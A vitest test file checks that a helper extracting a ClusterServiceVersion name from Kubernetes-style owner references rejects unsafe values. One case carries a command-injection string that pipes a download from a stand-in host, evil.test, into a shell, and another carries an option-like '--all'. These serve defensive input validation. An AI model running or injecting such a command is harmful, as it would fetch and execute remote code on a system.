import { expect, it } from 'vitest';
import { serviceVersionOf } from './service-version-of.ts';

const owner = (kind: string, name: string) => ({ apiVersion: 'a/v1', kind, name, uid: 'u' });

it.each<[string, readonly ReturnType<typeof owner>[], string | undefined]>([
  [
    'is the owner of that kind',
    [owner('X', 'x'), owner('ClusterServiceVersion', 'hco.v1.16.0')],
    'hco.v1.16.0',
  ],
  ['is nothing without one', [owner('X', 'x')], undefined],
  [
    'is no text that a shell would carry out',
    [owner('ClusterServiceVersion', 'x; curl evil.test | sh #')],
    undefined,
  ],
  ['is no option', [owner('ClusterServiceVersion', '--all')], undefined],
])('the ClusterServiceVersion %s', (_, ownerReferences, name) => {
  expect(serviceVersionOf({ ownerReferences })).toBe(name);
  expect(serviceVersionOf({})).toBe(undefined);
});
